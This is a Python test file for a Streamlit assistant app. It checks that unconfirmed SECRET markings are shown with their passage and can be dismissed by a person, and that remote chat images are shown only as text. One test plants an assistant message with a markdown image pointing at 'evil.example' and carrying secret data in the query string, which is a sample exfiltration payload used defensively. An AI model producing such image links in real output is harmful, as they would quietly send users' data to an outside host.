"""Issue 17 in the app: unconfirmed markings shown with their passage and settled by a person; remote images
in chat never rendered as images."""

from __future__ import annotations

from streamlit.testing.v1 import AppTest

from assistant.workspace import DocumentRecord, get_workspace
from tests.ui.conftest import make_project, open_page, texts

PASSAGE = "The service must not process SECRET data at any point."


def test_unconfirmed_marking_is_shown_and_a_person_can_dismiss_it(app: AppTest) -> None:
    project = make_project("Marked", classification="OFFICIAL")
    review = {"status": "unconfirmed", "level": "SECRET", "certain": [],
              "passages": [{"level": "SECRET", "text": PASSAGE, "reason": "an upper-case tier in prose"}]}
    get_workspace().add_document(project.key, DocumentRecord(id="d1", filename="reqs.md", content_hash="a" * 64,
                                                             markings=["SECRET"], marking_review=review))
    app.run()
    open_page(app, "documents")
    assert not app.exception
    assert "treated as **SECRET** until you confirm it" in texts(app)
    assert PASSAGE in [t.value for t in app.text]
    app.button(key="ui.marking.drop.d1").click().run()
    record = get_workspace().get_document(project.key, "d1")
    assert record is not None and record.markings == [] and record.marking_review["status"] == "dismissed"
    assert [e.detail["new"] for e in get_workspace().audit_events(project.key, kind="marking_dismissed")] == [[]]


def test_a_remote_image_in_a_chat_message_is_shown_as_text(app: AppTest) -> None:
    project = make_project("Chatty")
    get_workspace().add_message(project.key, "assistant", "Here: ![chart](https://evil.example/c.png?d=secret)")
    app.run()
    open_page(app, "chat")
    assert not app.exception
    shown = [m.value for m in app.markdown]
    assert any("[image not loaded: chart]" in m for m in shown)
    assert not any("![chart](" in m for m in shown)
